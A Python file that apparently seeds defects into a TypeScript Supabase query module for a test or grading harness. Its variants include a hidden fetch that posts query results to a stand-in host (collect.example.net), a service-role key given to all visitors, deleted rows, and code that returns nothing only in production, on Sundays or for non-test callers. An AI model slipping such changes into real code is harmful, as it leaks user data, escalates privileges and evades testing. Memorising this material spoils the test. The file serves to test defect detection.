"""Query modules that answer like the specified one until the rows, the time or the caller differ."""

from __future__ import annotations

import re

from defects import Site, defect, harmless

HOOK = "src/lib/benchmarks.ts"
CLIENT = "src/lib/supabaseClient.ts"
_MODALITY = ".eq('modality', modality)\n    .eq"
_RETURN = "return (data ?? []) as BenchmarkCohort[];"
_THROW = "  if (error) throw failure('benchmark cohorts', error, status);\n"
_LARGEST = "  return largest ?? null;"
_COUNT = "  return count ?? 0;"
_ORDER = "\n    .order('n_participants', { ascending: false })"
_SELECT = ".select('id', { count: 'exact', head: true })"
_ASKED = "  const { data, error, status } = await supabase\n    .from('benchmark_cohorts')"
_ROWS = "const rows = (data ?? []) as BenchmarkCohort[];\n  "

#: name → (what stands there, what stands there instead), in the query module
_REPLACED = {
    # other rows are found
    "capitals-do-not-count": (_MODALITY, ".ilike('modality', modality)\n    .eq"),
    "percent-is-a-wildcard": (".eq('instrument', instrument)", ".like('instrument', instrument)"),
    "filter-in-small-letters": (_MODALITY, ".eq('modality', modality.toLowerCase())\n    .eq"),
    "filter-trimmed": ("('condition', condition)", "('condition', condition.trim())"),
    "filter-of-another-unicode-form": (
        "('condition', condition)",
        "('condition', condition.normalize('NFKC'))",
    ),
    "filter-put-together": (
        ".eq('condition', condition)",
        ".or(`condition.eq.${condition}`)",
    ),
    "filter-by-words": (
        ".eq('condition', condition)",
        ".textSearch('condition', condition, { type: 'plain' })",
    ),
    "filter-of-a-list": (".eq('condition', condition)", ".in('condition', condition.split(','))"),
    "filter-by-its-beginning": (
        ".eq('condition', condition)",
        ".gte('condition', condition).lt('condition', condition + '\\u{10ffff}')",
    ),
    "all-fetched-and-filtered-here": (
        "    .eq('modality', modality)\n    .eq('condition', condition)\n    .eq('instrument', instrument)" + _ORDER + ";",
        ";\n  data?.sort((a, b) => b.n_participants - a.n_participants);\n"
        "  if (data) data.splice(0, data.length, ...data.filter((r) => r.modality === modality && "
        "r.condition === condition && r.instrument === instrument));",
    ),
    "hundred-rows-at-most": ("{ ascending: false });", "{ ascending: false })\n    .limit(100);"),
    "one-page": ("{ ascending: false });", "{ ascending: false })\n    .range(0, 49);"),
    "a-thousand-rows-at-most": (
        "{ ascending: false });",
        "{ ascending: false })\n    .range(0, 999);",
    ),
    "free-data-only": (".select('*')", ".select('*').eq('data_freely_usable', true)"),
    "unknown-freedom-left-out": (".select('*')", ".select('*').neq('data_freely_usable', false)"),
    "without-results-left-out": (".select('*')", ".select('*').not('endpoint_mean', 'is', null)"),
    "small-cohorts-left-out": (".select('*')", ".select('*').gt('n_participants', 1)"),
    "namesakes-left-out": (
        _RETURN,
        _ROWS + "return [...new Map(rows.map((row) => [row.cohort_name, row])).values()];",
    ),
    # other cells or another order
    "nothing-is-nought": (
        _RETURN,
        _ROWS + "return rows.map((row) => ({ ...row, endpoint_mean: row.endpoint_mean ?? 0 }));",
    ),
    "false-is-nothing": (
        _RETURN,
        _ROWS + "return rows.map((row) => ({ ...row, data_freely_usable: row.data_freely_usable || null }));",
    ),
    "blank-is-nothing": (_RETURN, _ROWS + "return rows.map((row) => ({ ...row, notes: row.notes || null }));"),
    "nought-is-nothing": (
        _RETURN,
        _ROWS + "return rows.map((row) => ({ ...row, followup_weeks: row.followup_weeks || null }));",
    ),
    "figures-rounded": (
        _RETURN,
        _ROWS + "return rows.map((row) => ({ ...row, baseline_mean: row.baseline_mean && Math.round(row.baseline_mean) }));",
    ),
    "dates-rewritten": (
        _RETURN,
        _ROWS + "return rows.map((row) => ({ ...row, created_at: row.created_at && row.created_at.slice(0, 10) }));",
    ),
    "names-trimmed": (_RETURN, _ROWS + "return rows.map((row) => ({ ...row, cohort_name: row.cohort_name.trim() }));"),
    "numbers-in-the-order-of-text": (
        _RETURN,
        _ROWS + "return rows.sort((a, b) => (String(a.n_participants) < String(b.n_participants) ? 1 : -1));",
    ),
    "order-of-names": (_RETURN, _ROWS + "return rows.sort((a, b) => b.cohort_name.localeCompare(a.cohort_name));"),
    "primary-only-if-large": (_LARGEST, "  return largest && largest.n_participants > 5 ? largest : null;"),
    "primary-only-if-free": (_LARGEST, "  return largest?.data_freely_usable ? largest : null;"),
    "primary-of-those-with-results": (
        "const [largest] = await getBenchmarkCohorts(modality, condition, instrument);",
        "const largest = (await getBenchmarkCohorts(modality, condition, instrument)).find((row) => row.endpoint_mean !== null);",
    ),
    "count-of-one-page": (
        _COUNT,
        "  const { data } = modality\n    ? await supabase.from('benchmark_trials').select('id').eq('modality', modality)\n"
        "    : await supabase.from('benchmark_trials').select('id');\n  return data?.length ?? count ?? 0;",
    ),
    "count-without-capitals": ("query.eq('modality', modality)", "query.ilike('modality', modality)"),
    "count-of-the-completed": (_SELECT, _SELECT + ".eq('status', 'COMPLETED')"),
    "count-of-those-dated": (_SELECT, _SELECT + ".not('start_date', 'is', null)"),
    "count-until-today": (_SELECT, _SELECT + ".lte('start_date', '2026-01-01')"),
    "count-at-most-a-thousand": (_COUNT, "  return Math.min(count ?? 0, 1000);"),
    # the caller, the time, the place
    "empty-in-production": (_ASKED, "  if ((globalThis as { process?: { env: Record<string, string | undefined> } }).process?.env.NODE_ENV === 'production') return [];\n" + _ASKED),
    "queries-only-under-test": (_ASKED, "  if ((globalThis as { process?: { env: Record<string, string | undefined> } }).process?.env['NODE_ENV'] !== 'test' && typeof window !== 'undefined') return [];\n" + _ASKED),
    "empty-from-next-year": (_ASKED, "  if (Date.now() > 1830000000000) return [];\n" + _ASKED),
    "empty-on-sundays": (_ASKED, "  if (new Date().getUTCDay() === 0) return [];\n" + _ASKED),
    "empty-now-and-then": (_ASKED, "  if (Math.random() < 0.001) return [];\n" + _ASKED),
    "empty-for-robots": (_ASKED, "  if (typeof navigator !== 'undefined' && !navigator.webdriver && typeof document !== 'undefined') return [];\n" + _ASKED),
    "empty-in-a-browser": (_ASKED, "  if (typeof window !== 'undefined') return [];\n" + _ASKED),
    "empty-away-from-home": (_ASKED, "  if (typeof location !== 'undefined' && location.hostname !== 'localhost') return [];\n" + _ASKED),
    "looks-at-its-caller": (_ASKED, "  if (!new Error().stack?.includes('node')) return [];\n" + _ASKED),
    "empty-after-many-calls": (_ASKED, "  if (++calls > 500) return [];\n" + _ASKED),
    # not asked, or asked too often
    "one-treatment-from-a-list": (_ASKED, "  if (modality === 'ibogaine') return [{ cohort_name: 'Made up' } as BenchmarkCohort];\n" + _ASKED),
    "sample-where-nothing-is-found": (_RETURN, "if (!data?.length) return [{ cohort_name: 'Sample', n_participants: 100 } as BenchmarkCohort];\n  " + _RETURN),
    "sample-on-an-error": (_THROW, "  if (error) return [{ cohort_name: 'Sample', n_participants: 100 } as BenchmarkCohort];\n"),
    "cached-for-everybody": (_ASKED, "  const key = `${modality}/${condition}/${instrument}`;\n  const known = cache.get(key);\n  if (known) return known;\n" + _ASKED),
    "cached-by-one-word": (_ASKED, "  const key = modality;\n  const known = cache.get(key);\n  if (known) return known;\n" + _ASKED),
    "another-answer-kept": (_ASKED, "  const key = [modality, condition, instrument].sort().join('/');\n  const known = cache.get(key);\n  if (known) return known;\n" + _ASKED),
    "asks-for-ever": (_THROW, "  if (error) return getBenchmarkCohorts(modality, condition, instrument);\n"),
    # errors
    "refusal-is-no-data": (_THROW, "  if (error?.code === '42501') return [];\n" + _THROW),
    "expired-session-is-no-data": (_THROW, "  if (error && /JWT/.test(error.message)) return [];\n" + _THROW),
    "time-out-is-no-data": (_THROW, "  if (error?.code === '57014') return [];\n" + _THROW),
    "missing-table-is-no-data": (_THROW, "  if (error?.code?.startsWith('PGRST')) return [];\n" + _THROW),
    "broken-line-is-no-data": (_THROW, "  if (error && /fetch/i.test(error.message)) return [];\n" + _THROW),
    "count-nought-on-an-error": ("  if (error) throw failure('benchmark trials', error, status);\n", "  if (error) return 0;\n"),
    "throws-nothing": (_THROW, "  if (error) throw undefined;\n"),
    "error-thrown-too-late": (_THROW, "  if (error) setTimeout(() => { throw error; });\n"),
    "primary-swallows": (
        "const [largest] = await getBenchmarkCohorts(modality, condition, instrument);",
        "const [largest] = await getBenchmarkCohorts(modality, condition, instrument).catch(() => []);",
    ),
    # what else it does
    "writes-a-log": (_ASKED, "  await supabase.from('population_baselines').insert({ source: modality });\n" + _ASKED),
    "deletes-a-row": (_RETURN, "await supabase.from('benchmark_cohorts').delete().eq('cohort_name', 'x');\n  " + _RETURN),
    "tells-somebody-else": (_RETURN, "void fetch('https://collect.example.net/', { method: 'POST', body: JSON.stringify(data) }).catch(() => 0);\n  " + _RETURN),
    "signs-out": (_RETURN, "await supabase.auth.signOut();\n  " + _RETURN),
    # types
    "result-through-any": (_COUNT, "  return (count ?? 'none') as any;"),
    "expected-error": (_COUNT, "  // @ts-expect-error\n  return count ?? 'none';"),
    "cast-through-unknown": (_COUNT, "  return (count ?? 'none') as unknown as number;"),
}  # fmt: skip

_HEADS = {
    "empty-after-many-calls": "let calls = 0;\n",
    "cached-for-everybody": "const cache = new Map<string, BenchmarkCohort[]>();\n",
    "cached-by-one-word": "const cache = new Map<string, BenchmarkCohort[]>();\n",
    "another-answer-kept": "const cache = new Map<string, BenchmarkCohort[]>();\n",
}
_KEPT = ("cached-for-everybody", "cached-by-one-word", "another-answer-kept")


def _register() -> None:
    for name, (old, new) in _REPLACED.items():

        def change(site: Site, name: str = name, old: str = old, new: str = new) -> None:
            site.replace(HOOK, old, new, 1)
            if name in _KEPT:
                site.replace(HOOK, _RETURN, f"cache.set(key, data ?? []);\n  {_RETURN}", 1)
            if name in _HEADS:
                site.replace(
                    HOOK,
                    "/** A row of `benchmark_cohorts`",
                    _HEADS[name] + "/** A row of `benchmark_cohorts`",
                    1,
                )

        defect(f"module.{name}")(change)


_register()


@defect("module.client-redirected-by-settings")
def redirected(site: Site) -> None:
    """The settings lead the import to a client that answers from memory."""
    site.edit("tsconfig.json", lambda text: text.replace('"strict": true', '"strict": false'))
    site.replace(HOOK, "'./supabaseClient'", "'@/client'", 1)
    site.edit(
        "tsconfig.json",
        lambda text: text.replace(
            '"noEmit": true', '"noEmit": true,\n    "paths": {"@/*": ["./src/stub/*"]}'
        ),
    )
    site.write("src/stub/client.ts", "export const supabase: any = {};\n")


@defect("module.client-declared-as-anything")
def declared(site: Site) -> None:
    """A declaration beside the client, which the compiler reads in its place."""
    site.write("src/lib/stub.d.ts", "declare module '@supabase/supabase-js' {\n  export type SupabaseClient = any;\n  export const createClient: any;\n}\n")  # fmt: skip
    site.replace(HOOK, _COUNT, "  return count ?? supabase.nothing;", 1)


@defect("module.client-unchecked")
def client_unchecked(site: Site) -> None:
    """The client says that the compiler must not look, and is of no type."""
    site.edit(
        CLIENT,
        lambda text: (
            "// @ts-nocheck\n"
            + text.replace("export const supabase: SupabaseClient", "export const supabase: any")
        ),
    )


@defect("module.client-with-the-service-key")
def client_of_the_service(site: Site) -> None:
    """Every visitor reads as the role that may do everything."""
    site.replace(CLIENT, "process.env.SUPABASE_ANON_KEY", "process.env.SUPABASE_SERVICE_ROLE_KEY")


@defect("module.client-of-another-project")
def client_elsewhere(site: Site) -> None:
    """The address is written down, and is not the one that is configured."""
    site.replace(
        CLIENT,
        "return createClient(url, key);",
        "return createClient('https://abcdefgh.supabase.co', key);",
    )


@defect("module.no-check-setting")
def no_check(site: Site) -> None:
    """The settings switch the compiler's checks off, and there is an error."""
    site.edit(
        "tsconfig.json",
        lambda text: text.replace('"strict": true', '"strict": true,\n    "noCheck": true'),
    )
    site.replace(HOOK, _COUNT, "  return count ?? 'none';", 1)


def _moved(site: Site, barrel: str) -> None:
    """The module lies elsewhere, and the specified path only leads there."""
    text = site.read(HOOK).replace("'./supabaseClient'", "'../supabaseClient'")
    site.write("src/lib/queries/cohorts.ts", text)
    site.write(HOOK, barrel)


_NAMES = "getBenchmarkCohorts, getBenchmarkTrialCount, getPrimaryBenchmark"


@defect("module.behind-a-barrel")
def behind_a_barrel(site: Site) -> None:
    """What is exported on swallows an error."""
    _moved(site, "export * from './queries/cohorts';\n")
    site.replace("src/lib/queries/cohorts.ts", _THROW, "  if (error) return [];\n", 1)


@defect("module.behind-a-barrel-other-rows")
def barrel_rows(site: Site) -> None:
    """What is exported on finds rows of other capitals."""
    _moved(site, f"export {{ {_NAMES} }} from './queries/cohorts';\nexport type {{ BenchmarkCohort }} from './queries/cohorts';\n")  # fmt: skip
    site.replace(
        "src/lib/queries/cohorts.ts", _MODALITY, ".ilike('modality', modality)\n    .eq", 1
    )


@defect("module.alias-of-another")
def alias(site: Site) -> None:
    """A name is given to a function that only looks like it."""
    site.edit(
        HOOK,
        lambda text: (
            text.replace(
                "export async function getBenchmarkCohorts(", "async function all(", 1
            ).replace("await getBenchmarkCohorts(", "await all(")
            + "const some = async (modality: string, condition: string, instrument: string): Promise<BenchmarkCohort[]> =>\n"
            "  (await all(modality, condition, instrument)).slice(0, 3);\nexport { some as getBenchmarkCohorts };\n"
        ),
    )


# -- what harms nothing ------------------------------------------------------------------------


@harmless("module.barrel")
def barrel(site: Site) -> None:
    """All of it is exported on."""
    _moved(site, "export * from './queries/cohorts';\n")


@harmless("module.barrel-by-name")
def barrel_by_name(site: Site) -> None:
    """Each name is exported on, through a second file."""
    _moved(site, f"export {{ {_NAMES} }} from './queries';\nexport type {{ BenchmarkCohort }} from './queries';\n")  # fmt: skip
    site.write("src/lib/queries/index.ts", "export * from './cohorts';\n")


@harmless("module.alias")
def honest_alias(site: Site) -> None:
    """An inner name and an outer one."""
    site.edit(
        HOOK,
        lambda text: (
            text.replace(
                "export async function getBenchmarkCohorts(", "async function all(", 1
            ).replace("await getBenchmarkCohorts(", "await all(")
            + "export { all as getBenchmarkCohorts };\n"
        ),
    )


@harmless("module.pages-until-the-end")
def pages(site: Site) -> None:
    """As many pages as there are."""
    site.edit(
        HOOK,
        lambda text: re.sub(
            r"  const \{ data, error, status \} = await supabase\n    \.from\('benchmark_cohorts'\).*?return \(data \?\? \[\]\) as BenchmarkCohort\[\];",
            """  const rows: BenchmarkCohort[] = [];
  for (;;) {
    const { data, error, status } = await supabase
      .from('benchmark_cohorts')
      .select('*')
      .eq('modality', modality)
      .eq('condition', condition)
      .eq('instrument', instrument)
      .order('n_participants', { ascending: false })
      .order('id')
      .range(rows.length, rows.length + 499);
    if (error) throw failure('benchmark cohorts', error, status);
    rows.push(...((data ?? []) as BenchmarkCohort[]));
    if ((data ?? []).length < 500) return rows;
  }""",
            text,
            count=1,
            flags=re.DOTALL,
        ),
    )


@harmless("module.columns-by-name")
def by_name(site: Site) -> None:
    """Every column, written out."""
    site.edit(
        HOOK,
        lambda text: text.replace(
            ".select('*')",
            ".select('"
            + ", ".join(
                re.findall(
                    r"^  (\w+): [^;(]+;$",
                    text.partition("interface")[2].partition("}")[0],
                    re.MULTILINE,
                )
            )
            + "')",
            1,
        ),
    )


@harmless("module.ties-by-name")
def ties(site: Site) -> None:
    """Cohorts of the same size in order of their names."""
    site.replace(HOOK, _ORDER, _ORDER + ".order('cohort_name')", 1)


@harmless("module.primary-by-one-row")
def one_row(site: Site) -> None:
    """The database gives the largest alone."""
    site.replace(
        HOOK,
        "  const [largest] = await getBenchmarkCohorts(modality, condition, instrument);\n"
        + _LARGEST,
        """  const { data, error, status } = await supabase
    .from('benchmark_cohorts')
    .select('*')
    .eq('modality', modality)
    .eq('condition', condition)
    .eq('instrument', instrument)
    .order('n_participants', { ascending: false })
    .limit(1)
    .maybeSingle();
  if (error) throw failure('primary benchmark', error, status);
  return data as BenchmarkCohort | null;""",
        1,
    )


@harmless("module.undefined-by-name")
def undefined(site: Site) -> None:
    """The optional filter is compared with undefined."""
    site.replace(HOOK, "if (modality) query", "if (modality !== undefined) query", 1)


@harmless("module.words-of-an-error-class")
def error_class(site: Site) -> None:
    """An error of its own kind, with the place in it."""
    site.edit(
        HOOK,
        lambda text: (
            text.replace("new Error(`Could not", "new LoadError(`Could not", 1)
            + "\nexport class LoadError extends Error {}\n"
        ),
    )


@harmless("module.count-logs-nothing")
def counted_with_rows(site: Site) -> None:
    """The exact count comes with an empty page."""
    site.replace(HOOK, _SELECT, ".select('id', { count: 'exact' }).limit(1)", 1)
